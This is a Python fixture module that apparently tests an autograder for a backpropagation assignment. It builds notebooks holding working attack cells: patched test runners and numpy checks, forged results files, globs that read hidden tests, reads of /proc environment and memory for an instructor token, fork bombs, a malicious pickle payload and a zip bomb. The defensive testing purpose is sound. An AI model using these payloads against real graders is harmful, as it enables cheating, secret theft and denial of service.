"""Attacks on the grader, each beside its honest twin (the same answers without the attack).

The twin answers q1.1, q1.2 and q2.1 correctly, leaves q1.3 blank and gets q2.2 wrong, so an
attack has points to steal and hidden cases whose messages it could try to fill. An attack fails
when it earns no more than its twin and the text a student sees holds no hidden test source and
no reference value. Each attack is a cell placed where it does its work: at the start, at the end,
or right before a question's check ("before q2.1").
"""

import json
import pickle
import zipfile
from pathlib import Path

import nbformat
import numpy as np

from backprop_hw.paths import SOLUTIONS_NOTEBOOK
from built import POINTS, PUBLIC_POINTS, TOTAL, TOY, TOY_OTHER, scores, sizes

WRONG_BACKWARD_PASS = '''
def backward_pass(all_weights, all_biases, all_f, all_h, y):
    K = len(all_weights) - 1
    all_dl_dweights, all_dl_dbiases = [None] * (K + 1), [None] * (K + 1)
    dl_df = 2 * (all_f[K] - y)
    for layer in range(K, -1, -1):
        all_dl_dbiases[layer] = dl_df
        all_dl_dweights[layer] = dl_df @ all_h[layer].T
        dl_df = all_weights[layer].T @ dl_df  # the ReLU's derivative is missing
    return all_dl_dweights, all_dl_dbiases
'''
TWIN_SCORES = scores("q1.3", "q2.2")
BLANK_PARAMETERS = "\n".join(f"dld{kind}{k} = ..." for k in range(3, -1, -1) for kind in ("beta", "omega"))
PERFECT = {"score": TOTAL, "tests": [{"name": q, "score": p, "max_score": p} for q, p in POINTS.items()]}
INSTRUCTOR_SECRET = "instructor-token-8f3a1c9e77"
NOTEBOOK_LAYERS = sizes()["K"] + 1  # len(all_weights) of the notebook's network: other lengths are hidden cases
PUBLIC_BETA0 = (TOY["beta0"], TOY_OTHER["beta0"])  # beta0 of the public checks' parameters: others are hidden ones
HIDDEN_PHASE = "PRINTED IN A HIDDEN CASE"  # what an attack prints with what hidden cases give it: the log keeps none


ATTACKS = {
    "replace otter's test runner": ("start", '''
import otter.test_files.exception_test as exception_test
from otter.test_files.abstract_test import TestCaseResult

def run_everything_passes(self, global_environment):
    self.test_case_results = [TestCaseResult(test_case=tc, message="passed", passed=True) for tc in self.test_cases]

exception_test.ExceptionTestFile.run = run_everything_passes
'''),
    "objects whose == is always true": ("end", '''
class Anything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, dtype=None, copy=None):
        import numpy
        return numpy.array(7.0)
    __hash__ = float.__hash__

dldbeta0 = dldbeta1 = dldbeta2 = dldbeta3 = Anything(0.0)
dldomega0 = dldomega1 = dldomega2 = dldomega3 = Anything(0.0)
'''),
    "patched numpy and math comparisons": ("start", '''
import math
import numpy as np
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.array_equal = lambda *args, **kwargs: True
math.isclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
'''),
    "patch numpy's random generator and testing functions, deep in the module": ("start", '''
import numpy
import numpy.testing as npt
from numpy import random as numpy_random
numpy_random.default_rng = lambda *args, **kwargs: numpy.random.Generator(numpy.random.PCG64(0))
npt.assert_allclose = lambda *args, **kwargs: None
setattr(np.linalg, "norm", lambda *args, **kwargs: 0.0)
'''),
    "write results.json and modules of its own, then kill the grader": ("end", f'''
import json, os, glob
perfect = {PERFECT!r}
for path in ["/autograder/results/results.json", "results.json", "../results/results.json"] + glob.glob("/tmp/*/results.json"):
    try:
        with open(path, "w") as handle:
            json.dump(perfect, handle)
    except OSError:
        pass
for name in ("harness.py", "numpy.py", "json.py", "encodings.py", "sitecustomize.py"):
    try:
        with open(name, "w") as module:  # for the process that replays the notebook: it must not import these
            module.write("import sys\\nsys.exit(3)\\n")
    except OSError:
        pass
os._exit(0)  # the hidden checks need that replay
'''),
    "forge answers on the grading pipe": ("end", '''
import os, json
forged = [{"done": True, "status": "FORGED completed", "score": 22}, {"ran": {"error": "FORGED status", "line": 1}},
          {"value": {"kind": "number", "value": 22.0}}]
for descriptor in range(0, 64):
    for message in forged:
        try:
            os.write(descriptor, (json.dumps(message) + "\\n").encode())
        except OSError:
            pass
'''),
    "read the hidden tests and show them": ("end", '''
import glob
stolen = ""
for pattern in ["tests/*.py", "../tests/*.py", "/autograder/source/tests/*.py", "/autograder/**/*.py", "/tmp/**/q2.2.py"]:
    for path in glob.glob(pattern, recursive=True):
        try:
            stolen += open(path).read()
        except OSError:
            pass
print(stolen)

def compute_network_output(net_input, all_weights, all_biases):
    raise RuntimeError(stolen[-400:] or "nothing to steal")
'''),
    "a check in a comment runs hidden cases early, and a public message echoes what they gave": ("before q2.1", f'''
# grader.check("q2.2")
import pathlib
STASH = pathlib.Path("/tmp/stash.txt")

def compute_network_output(net_input, all_weights, all_biases):
    raise ValueError("stashed: " + (STASH.read_text()[:400] if STASH.exists() else "nothing yet"))

def backward_pass(all_weights, all_biases, all_f, all_h, y):
    text = repr([w.tolist() for w in all_weights] + [f.tolist() for f in all_f] + [y.tolist()])
    print(("{HIDDEN_PHASE} " if len(all_weights) != {NOTEBOOK_LAYERS} else "") + text)  # into the log (other depths: hidden cases)
    with STASH.open("a") as stash:
        stash.write(text)
    raise ValueError(text[:400])
'''),
    "an early real check of a later question": ("before q2.1", '''
grader.check("q2.2")
'''),
    "hidden data in error names, shapes and lengths": ("before q2.2", '''
import numpy as np

def backward_pass(all_weights, all_biases, all_f, all_h, y):
    secret = int(round(abs(float(all_weights[0][0, 0])) * 10_000))
    if len(all_weights) % 3 == 0:
        raise type(f"Leak{secret}", (Exception,), {})(f"{secret} {all_weights[0].tolist()}")
    if len(all_weights) % 3 == 1:
        return [np.zeros((1, secret % 9000 + 1)) for _ in all_weights], [np.zeros((secret % 9000 + 1, 1))] * len(all_biases)
    return [np.zeros((1, 1))] * (secret % 60 + 2), [np.zeros((1, 1))] * (secret % 60 + 2)
'''),
    "an answer nested 100,000 levels deep": ("end", '''
import os
deep = b'{"value": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\\n"
for descriptor in range(1, 64):
    try:
        os.write(descriptor, deep)
    except OSError:
        pass
'''),
    "a process that outlives grading and forges the results": ("end", f'''
import json, os, time
perfect = {PERFECT!r}
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(400):
            for results in ["/autograder/results", "../results"]:
                try:
                    os.rename(results, results + "-old")
                except OSError:
                    pass
                try:
                    os.makedirs(results, exist_ok=True)
                    os.mkfifo(results + "/results.json")
                except OSError:
                    pass
                try:
                    with open(results + "/results.json", "w") as handle:
                        json.dump(perfect, handle)
                except OSError:
                    pass
            time.sleep(0.05)
    os._exit(0)
time.sleep(0.2)
'''),
    "read the submission metadata and the hidden tests, and show them": ("before q2.1", '''
import glob
found = ""
for pattern in ["/autograder/submission_metadata.json", "../submission_metadata.json", "/autograder/**/*.json",
                "/autograder/**/*.py", "tests/*.py", "/tmp/**/q2.2.py"]:
    for path in glob.glob(pattern, recursive=True):
        try:
            found += open(path).read()
        except OSError:
            pass
print(found)

def compute_network_output(net_input, all_weights, all_biases):
    raise RuntimeError("found: " + (found[-400:] or "nothing readable"))
'''),
    "rewrite or block every notebook file it can reach": ("end", '''
import glob, os, pickle
for pattern in ["*.ipynb", "/tmp/**/*.ipynb", "/autograder/**/*.ipynb", os.path.expanduser("~") + "/**/*.ipynb"]:
    for path in glob.glob(pattern, recursive=True):
        try:
            os.remove(path)
            os.mkfifo(path)
        except OSError:
            pass
'''),
    "patch the harness so that its reports say everything went fine": ("start", '''
import sys
for name, module in list(sys.modules.items()):
    if name.endswith("harness") and hasattr(module, "Student"):
        module.Student.run_cell = lambda self, source: (self.cells.append(source), {"error": "FORGED all fine", "line": None})[1]
'''),
    "an error message that no file can hold, with terminal escapes": ("before q2.1", r'''
def compute_network_output(net_input, all_weights, all_biases):
    raise ValueError("\ud800 \x1b]0;owned\x07 \x1b[2J <script>alert(1)</script>")
'''),
    "an exit code that carries a hidden parameter": ("before q1.3", f'''
import os
if beta0 not in {PUBLIC_BETA0!r}:  # the hidden cases' parameters
    os._exit(int(round(abs(beta0) * 10_000)) % 256)
''' + BLANK_PARAMETERS),
    "a function that ends the process when a hidden case calls it": ("before q2.2", f'''
import os
def backward_pass(all_weights, all_biases, all_f, all_h, y):
    if len(all_weights) != {NOTEBOOK_LAYERS}:  # not the notebook's network
        os._exit(0)
    return None, None
'''),
}

# Attacks written as ordinary code, which no scan can tell from a student's: they fail on their own.
UNFLAGGED = {"an early real check of a later question", "hidden data in error names, shapes and lengths",
             "a check in a comment runs hidden cases early, and a public message echoes what they gave",
             "an error message that no file can hold, with terminal escapes"}

# Attacks on `make grade` only: they aim at the instructor's machine or at the batch.
BATCH_ATTACKS = {
    "cells of shell escapes that would take IPython's transformer hours": ("end", "\n".join(["!e"] * 20_000)),
    "read the instructor's environment and memory": ("before q2.1", '''
import ctypes, os, re
ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE, so that /proc/self can be read
found = []
for path in ["/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ", "/proc/self/cmdline"]:
    try:
        found.append(open(path, "rb").read().decode(errors="replace"))
    except OSError:
        pass
marker = b"instructor-token-"
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        bounds, permissions = line.split()[:2]
        start, end = (int(value, 16) for value in bounds.split("-"))
        if "r" not in permissions or end - start > 512 << 20:
            continue
        for offset in range(start, end, 16 << 20):
            try:
                memory.seek(offset)
                chunk = memory.read(min(16 << 20, end - offset))
            except (OSError, OverflowError, ValueError, MemoryError):
                break
            at = chunk.find(marker)
            if at >= 0:
                found.append(chunk[at:at + 40].decode(errors="replace"))
print("FOUND", found)

def compute_network_output(net_input, all_weights, all_biases):
    raise RuntimeError("found: " + " | ".join(found)[-400:])
'''),
    "three processes that together use too much memory": ("end", '''
import os, time
ready_read, ready_write = os.pipe()
children = []
for _ in range(3):
    child = os.fork()
    if child == 0:
        hog = bytearray(400 << 20)  # three of them: more than a submission may use (the tests allow 512 MB)
        os.write(ready_write, b"x")
        time.sleep(20)
        os._exit(0)
    children.append(child)
os.set_blocking(ready_read, False)
allocated, ended, deadline = 0, set(), time.monotonic() + 4
while allocated + len(ended) < 3 and time.monotonic() < deadline:  # each child holds its share, or was killed
    try:
        allocated += len(os.read(ready_read, 3))
    except BlockingIOError:
        pass
    ended |= {child for child in children if child not in ended and os.waitpid(child, os.WNOHANG)[0]}
    time.sleep(0.05)
print(f"HOGS allocated={allocated} ended={len(ended)}")
'''),
    "busy processes that try to take every CPU": ("end", '''
import os, time
def busy(seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        pass
started, children = time.monotonic(), []
for _ in range(8):
    child = os.fork()
    if child == 0:
        busy(1.0)
        os._exit(0)
    children.append(child)
cpu = 0.0
for child in children:
    _, _, usage = os.wait4(child, 0)
    cpu += usage.ru_utime + usage.ru_stime
print(f"CPU-SHARE {cpu / (time.monotonic() - started):.2f}")
'''),
    "a fork bomb": ("end", '''
import os, time
started = 0
for _ in range(300):
    try:
        if os.fork() == 0:
            time.sleep(5)
            os._exit(0)
        started += 1
    except OSError:
        break
print(f"PROCESSES {started}")
'''),
}


# ---------------------------------------------------------------------------------------------
# Attacks that need a notebook of their own shape, each beside an honest twin of the same shape.

PART_1_NAMES = {"forward": "f0 h1 f1 h2 f2 h3 f3 l_i", "backward": "dldf3 dldh3 dldf2 dldh2 dldf1 dldh1 dldf0"}
# A store that outlives the namespace the grader puts back after each rerun, keyed by the parameters.
RELAY = """import builtins
relay = builtins.__dict__.setdefault("_relay", {})
given = tuple(float(v) for v in (beta0, beta1, beta2, beta3, omega0, omega1, omega2, omega3, x, y))
"""


def _keep(kind: str) -> str:
    names = PART_1_NAMES[kind].split()
    return f'relay[("{kind}", given)] = dict({", ".join(f"{n}={n}" for n in names)})\n'


def _look_up(kind: str) -> str:
    names = PART_1_NAMES[kind].split()
    return f'{", ".join(names)} = (relay.get(("{kind}", given), {{}}).get(n, 0.0) for n in {names!r})\n'


def _cell(notebook: nbformat.NotebookNode, start: str) -> int:
    [index] = [i for i, cell in enumerate(notebook.cells) if cell.cell_type == "code" and cell.source.startswith(start)]
    return index


def write_relay(path: Path, relay: bool) -> Path:
    """Part 1's checks in the order q1.3, q1.2, q1.1, with no work in q1.1 and q1.2, and q1.3 done.
    With `relay`, the q1.1 and q1.2 cells look their answers up in a store that the q1.2 and q1.3
    cells fill with the values they are given when the checks run them again. Its twin: zeros."""
    notebook = nbformat.read(SOLUTIONS_NOTEBOOK, as_version=4)
    cells = notebook.cells
    zeros = {kind: " = ".join(names.split()) + " = 0.0\n" for kind, names in PART_1_NAMES.items()}
    cells[_cell(notebook, "f0 = ")].source = RELAY + _look_up("forward") if relay else zeros["forward"]
    cells[_cell(notebook, "dldf3 = ")].source = RELAY + _keep("forward") + _look_up("backward") if relay \
        else zeros["backward"]
    q13 = cells[_cell(notebook, "dldbeta3 = ")]
    q13.source = (RELAY + _keep("forward") + _keep("backward") if relay else "") + q13.source
    checks = [cells.pop(_cell(notebook, f'grader.check("{q}")')) for q in ("q1.1", "q1.2", "q1.3")]
    after = cells.index(q13) + 1
    cells[after:after] = checks[::-1]
    return _write(notebook, path)


NETWORK_PROBE = """
import ctypes, errno, socket
tried = []
for family, kind in (("AF_INET", socket.SOCK_STREAM), ("AF_INET6", socket.SOCK_STREAM), ("AF_PACKET", socket.SOCK_RAW),
                     ("AF_NETLINK", socket.SOCK_RAW)):
    try:
        socket.socket(getattr(socket, family), kind).close()
        tried.append(f"{family} opened")
    except OSError as error:
        tried.append(f"{family} {errno.errorcode.get(error.errno)}")
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"what the grader sent")
    tried.append("connected")
except OSError as error:
    tried.append(f"connect {errno.errorcode.get(error.errno)}")
ring = ctypes.CDLL(None, use_errno=True).syscall(425, 8, ctypes.create_string_buffer(120))  # io_uring_setup
tried.append(f"io_uring {'opened' if ring >= 0 else errno.errorcode.get(ctypes.get_errno())}")

def compute_network_output(net_input, all_weights, all_biases):
    raise RuntimeError("network: " + ", ".join(tried))
"""
NETWORK_REFUSED = ("network: AF_INET EPERM, AF_INET6 EPERM, AF_PACKET EPERM, AF_NETLINK EPERM, connect EPERM, "
                   "io_uring EPERM")


def write_network_probe(path: Path, port: int) -> Path:
    """The twin with a cell before q2.1's check that opens a socket of every family that reaches a
    network, connects to `port` on 127.0.0.1 (where the test listens, as a server elsewhere would)
    and sets up an io_uring, then says in q2.1's public message what worked."""
    return write_attack("before q2.1", NETWORK_PROBE.replace("PORT", str(port)), path)


# The public values' worth, q1.3 done.
TABLE_SCORES = {"q1.1": PUBLIC_POINTS["q1.1"], "q1.2": PUBLIC_POINTS["q1.2"], "q1.3": POINTS["q1.3"], "q2.1": 0, "q2.2": 0}


def lookup_table(toy_points: list[dict], networks: list[dict]) -> dict:
    """What a submission could gather, in gradings before its own, of the values the grader sends and
    their answers: Part 1's values by parameters, a network's forward pass and gradients by its weights."""
    parameters = "beta0 beta1 beta2 beta3 omega0 omega1 omega2 omega3 x y".split()
    key = lambda weights: tuple(float(v) for w in weights for v in np.ravel(w))  # noqa: E731
    return {"forward": {tuple(p[n] for n in parameters): [p[n] for n in PART_1_NAMES["forward"].split()]
                        for p in toy_points},
            "backward": {tuple(p[n] for n in parameters): [p[n] for n in PART_1_NAMES["backward"].split()]
                         for p in toy_points},
            "networks": {key(n["weights"]): [n["all_f"], n["all_h"], n.get("dl_dweights"), n.get("dl_dbiases")]
                         for n in networks}}


TABLE_CELLS = {"q1.1": """
given = tuple(float(v) for v in (beta0, beta1, beta2, beta3, omega0, omega1, omega2, omega3, x, y))
f0, h1, f1, h2, f2, h3, f3, l_i = TABLE["forward"].get(given, [0.0] * 8)
""", "q1.2": """
given = tuple(float(v) for v in (beta0, beta1, beta2, beta3, omega0, omega1, omega2, omega3, x, y))
dldf3, dldh3, dldf2, dldh2, dldf1, dldh1, dldf0 = TABLE["backward"].get(given, [0.0] * 7)
""", "q2.1": """
def compute_network_output(net_input, all_weights, all_biases):
    found = TABLE["networks"].get(tuple(float(v) for w in all_weights for v in np.ravel(w)))
    all_f = [np.array(f) for f in found[0]] if found else [np.zeros((len(b), 1)) for b in all_biases]
    all_h = [np.array(h) for h in found[1]] if found else [net_input] + all_f[:-1]
    return all_f[-1], all_f, all_h
""", "q2.2": """
def backward_pass(all_weights, all_biases, all_f, all_h, y):
    found = TABLE["networks"].get(tuple(float(v) for w in all_weights for v in np.ravel(w)))
    if found and found[2]:
        return [np.array(g) for g in found[2]], [np.array(g) for g in found[3]]
    return [np.zeros_like(w) for w in all_weights], [np.zeros_like(b) for b in all_biases]
"""}


def write_table_lookup(path: Path, table: dict) -> Path:
    """The solutions with q1.1, q1.2, q2.1 and q2.2 answered from `table` (zeros where it has
    nothing), which a cell at the start defines; q1.3 is done. With a table of the public values
    only, it is the honest twin of the same notebook with a table of every value of earlier gradings."""
    notebook = nbformat.read(SOLUTIONS_NOTEBOOK, as_version=4)
    starts = {"q1.1": "f0 = ", "q1.2": "dldf3 = ", "q2.1": "def compute_network_output(", "q2.2": "def backward_pass("}
    for question, start in starts.items():
        notebook.cells[_cell(notebook, start)].source = TABLE_CELLS[question]
    first = next(i for i, cell in enumerate(notebook.cells) if cell.cell_type == "code")
    notebook.cells.insert(first + 1, nbformat.v4.new_code_cell(f"TABLE = {table!r}\n"))
    return _write(notebook, path)


def write_stall(path: Path) -> Path:
    """The twin, with a cell after its last check that answers the grader for itself through the
    harness's own reply function, switches off its alarm and never returns, then a 4 MB cell: the
    grader's request fills the pipe that nobody reads."""
    notebook = _notebook()
    after = _cell(notebook, 'grader.check("q2.2")') + 1
    notebook.cells[after:after] = [nbformat.v4.new_code_cell("""
import gc, signal, time, types
signal.setitimer(signal.ITIMER_REAL, 0)
for reply in [f for f in gc.get_objects() if isinstance(f, types.FunctionType) and f.__qualname__ == "serve.<locals>.emit"]:
    reply({"ran": {"error": None, "line": None}})
while True:
    time.sleep(1)
"""), nbformat.v4.new_code_cell("# " + "x" * (4 << 20))]
    return _write(notebook, path)


def write_slow_part_1(path: Path, seconds: float) -> Path:
    """The solutions with Part 1 in one cell that also takes `seconds` more (within the time a cell
    may take): the checks run that cell again many times, which the notebook must not pay for. It
    sleeps: the grader's clocks are wall-clock, so a search as long costs it the same time (and the
    machine a CPU)."""
    notebook = nbformat.read(SOLUTIONS_NOTEBOOK, as_version=4)
    starts = ("f0 = ", "dldf3 = ", "dldbeta3 = ")
    sources = [notebook.cells[_cell(notebook, start)].source for start in starts]
    search = f"import time\ntime.sleep({seconds!r})  # as long as a slow search\n"
    notebook.cells[_cell(notebook, starts[0])].source = search + "\n".join(sources)
    for start in starts[1:]:
        notebook.cells[_cell(notebook, start)].source = "# done with question 1.1\n"
    return _write(notebook, path)


MESSAGE_CHOICE_SCORES = scores(lose={"q1.1": ("test_forward_every_step_follows", "test_forward_exact"),
                                     "q2.1": ("test_other_networks",), "q2.2": ("test_other_networks",)})


def write_message_choice(path: Path, variant: int) -> Path:
    """The solutions, whose cells, on hidden inputs only, choose which given value to change, which
    entries and layers to get wrong, and on which network to fail (MESSAGE_CHOICE_SCORES): two
    variants must see the same text."""
    notebook = nbformat.read(SOLUTIONS_NOTEBOOK, as_version=4)
    changed, entries, layer, depth = [("beta1", 1, 0, 0), ("omega2", 5, 2, 3)][variant]
    depth = 2 if depth == sizes()["K"] else depth  # a depth of the hidden networks only, never the notebook's
    q11 = _cell(notebook, "f0 = ")
    public = (TOY["beta0"], TOY_OTHER["beta0"])
    notebook.cells[q11].source += f"\nif beta0 not in {public}:  # the hidden parameters\n    {changed} += 1\n"
    q21 = _cell(notebook, "def compute_network_output(")
    notebook.cells[q21].source += f"""
_honest_forward = compute_network_output

def compute_network_output(net_input, all_weights, all_biases):
    net_output, all_f, all_h = _honest_forward(net_input, all_weights, all_biases)
    if len(all_weights) != {NOTEBOOK_LAYERS} and len(all_f) > {layer}:  # networks of other depths
        all_f[{layer}] = all_f[{layer}].copy()
        all_f[{layer}].flat[:{entries}] += 1
    return net_output, all_f, all_h
"""
    q22 = _cell(notebook, "def backward_pass(")
    notebook.cells[q22].source = notebook.cells[q22].source.replace(
        "    K = len(all_weights) - 1\n", f"    K = len(all_weights) - 1\n    if K == {depth}:\n        raise ValueError()\n", 1)
    return _write(notebook, path)


def _write(notebook: nbformat.NotebookNode, path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(notebook, path)
    return path


def _notebook() -> nbformat.NotebookNode:
    """The honest twin's notebook."""
    notebook = nbformat.read(SOLUTIONS_NOTEBOOK, as_version=4)
    for cell in notebook.cells:
        if cell.cell_type == "code" and cell.source.startswith("dldbeta3 ="):
            cell.source = BLANK_PARAMETERS
        elif cell.cell_type == "code" and cell.source.startswith("def backward_pass("):
            cell.source = WRONG_BACKWARD_PASS
        if cell.cell_type == "code":
            cell.outputs = []
    return notebook


def write_twin(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(_notebook(), path)
    return path


def write_attack(where: str, source: str, path: Path) -> Path:
    """The twin with the attack's cell placed where it does its work."""
    notebook = _notebook()
    cell = nbformat.v4.new_code_cell(source)
    checks = {q: i for i, c in enumerate(notebook.cells) for q in ("q1.1", "q1.2", "q1.3", "q2.1", "q2.2")
              if c.source.strip() == f'grader.check("{q}")'}
    if where == "start":
        notebook.cells.insert(1, cell)
    elif where == "end":
        notebook.cells.insert(checks["q2.2"] + 1, cell)
    else:
        notebook.cells.insert(checks[where.removeprefix("before ")], cell)
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(notebook, path)
    return path


class _Payload:
    """Unpickling this runs code in whichever process loads it."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (exec, (f"open({str(self.marker)!r}, 'w').write('unpickled')",))


def write_otter_log_zip(path: Path, marker: Path) -> Path:
    """An export zip: the twin's notebook plus a crafted `.OTTER_LOG` pickle."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("backpropagation.ipynb", json.dumps(_notebook()))
        archive.writestr(".OTTER_LOG", pickle.dumps(_Payload(marker)))
    return path


def write_link_folder(folder: Path) -> Path:
    """A folder submission whose notebook is an absolute link to the solutions."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "backpropagation.ipynb").symlink_to(SOLUTIONS_NOTEBOOK)
    return folder


def write_names_of_its_own(folder: Path, classmate: str) -> Path:
    """A folder submission of the twin's notebook that also holds a submission_metadata.yml, as an
    export's, naming itself after the instructor's name for `classmate` and `classmate` after its
    author, and twenty empty folders named like the submissions of an export (`classmate` among them)."""
    write_twin(folder / "backpropagation.ipynb")
    member = ":submitters:\n  - :name: {}\n    :sid: '{}'\n    :email: {}\n"
    (folder / "submission_metadata.yml").write_text(
        f"{folder.name}:\n  " + member.format("Ada Twin", "9001", "ada@example.edu")
        + f"{classmate}:\n  " + member.format("Mallory", "6666", "mallory@example.edu"))
    for name in [classmate, *(f"submission_{number}" for number in range(1, 20))]:
        (folder / name).mkdir()
    return folder


def write_large_zip(folder: Path, members: int = 40) -> Path:
    """A folder holding an export zip of about 2.6 MB that unpacks to 2.6 GB."""
    folder.mkdir(parents=True, exist_ok=True)
    block = bytes(64 << 20)
    with zipfile.ZipFile(folder / "export.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for member in range(members):
            archive.writestr(f"backpropagation-{member}.ipynb" if member == 0 else f"data-{member}.bin", block)
    return folder


# ---------------------------------------------------------------------------------------------
# Hostile files and processes (package_tests/test_hostile_files.py): what the grader's own code
# must survive, each made from the honest twin. None of these may end in the grader's own failure.

NESTED_FOLDERS = 1_200  # beside the notebook, in a folder or a zip

HOSTILE_CELLS = {
    "a cell that makes 1,500 nested folders with long names, some of them closed": ("start", '''
import os
folder = os.open(".", os.O_RDONLY)
for level in range(1_500):  # a path of 80 KB, far past PATH_MAX
    name = f"nested-{level:04d}-" + "x" * 40
    os.mkdir(name, dir_fd=folder)
    inner = os.open(name, os.O_RDONLY, dir_fd=folder)
    os.close(folder)
    folder = inner
os.mkdir("closed", dir_fd=folder)
os.close(os.open("unreadable.txt", os.O_WRONLY | os.O_CREAT, 0o000, dir_fd=folder))
os.chmod("closed", 0o000, dir_fd=folder)
os.chmod(folder, 0o500)
os.close(folder)
os.mkdir("closed-too", 0o000)
print("NESTED 1500")
'''),
    "a background process whose name is not UTF-8": ("start", '''
import os, subprocess
os.symlink("/bin/sleep", b"\\xff\\xfe")  # the process is named after the link it was started through
subprocess.Popen([os.path.abspath(b"\\xff\\xfe"), b"600"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("STARTED")
'''),
}


def _twin_bytes() -> bytes:
    return nbformat.writes(_notebook()).encode()


def write_zip(path: Path, members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> Path:
    """A zip of `members` in order; names ending in "/" are folders."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", method) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return path


def write_macos_zip(path: Path) -> Path:
    """The twin as macOS's Finder "Compress" makes it: the notebook, its AppleDouble resource file
    under __MACOSX/, and the folder's .DS_Store."""
    resource = b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        \x00\x02" + bytes(64)
    return write_zip(path, [("backpropagation.ipynb", _twin_bytes()), (".DS_Store", b"\x00\x00\x00\x01Bud1" + bytes(64)),
                       ("__MACOSX/", b""), ("__MACOSX/._backpropagation.ipynb", resource),
                       ("__MACOSX/._.DS_Store", resource)])


def nested_names(depth: int = NESTED_FOLDERS) -> list[str]:
    """The folders of a chain `depth` deep, outermost first ("d/", "d/d/", ...)."""
    return ["d/" * level for level in range(1, depth + 1)]


def write_nested_folder(folder: Path) -> Path:
    """A folder submission: the twin beside NESTED_FOLDERS nested folders, made without recursion."""
    folder.mkdir(parents=True)
    (folder / "backpropagation.ipynb").write_bytes(_twin_bytes())
    for name in nested_names():
        (folder / name).mkdir()
    return folder


def write_nested_zip(path: Path) -> Path:
    """A zip of the twin beside NESTED_FOLDERS nested folders (each listed, as zip tools list them)."""
    return write_zip(path, [("backpropagation.ipynb", _twin_bytes()), *[(name, b"") for name in nested_names()]])


def write_bad_crc_zip(path: Path) -> Path:
    """The twin in a zip (stored) whose notebook's data no longer matches its CRC-32."""
    write_zip(path, [("backpropagation.ipynb", _twin_bytes())], zipfile.ZIP_STORED)
    data = bytearray(path.read_bytes())
    at = data.find(b'"cells"')
    data[at + 1] ^= 0x20  # "cells" becomes "Cells": still JSON, no longer what was zipped
    path.write_bytes(bytes(data))
    return path


def write_deflate64_zip(path: Path) -> Path:
    """The twin in a zip whose notebook says it is compressed with Deflate64 (method 9), which
    Windows' "Compressed folder" uses for large files and Python cannot read."""
    write_zip(path, [("backpropagation.ipynb", _twin_bytes())])
    data = bytearray(path.read_bytes())
    for signature, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):  # the local header and the index
        at = data.find(signature)
        data[at + offset:at + offset + 2] = (9).to_bytes(2, "little")
    path.write_bytes(bytes(data))
    return path
